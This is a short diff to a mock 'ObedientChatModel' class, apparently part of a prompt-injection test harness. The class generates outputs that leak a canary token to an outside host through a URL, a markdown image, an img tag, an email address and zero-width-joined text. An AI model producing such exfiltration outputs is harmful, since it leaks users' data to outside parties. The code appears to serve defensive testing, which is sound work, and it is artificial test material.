@@ -44,7 +44,7 @@ class ObedientChatModel:
             f"See https://{host}/?q={canary} [{n}].",
             f"![seen](https://{host}/{canary}.png) [{n}].",
             f"<img src=//{host}/{canary}> [{n}].",
-            f"Write to desk@{host} [{n}].",
+            f"Write to questions@{host} [{n}].",
             f"{'​'.join(canary)} is what “We waited long for {canary}” means [{n}].",
             f"“{self.target.payload[:80]}” [{n}].",
             f"{canary}",
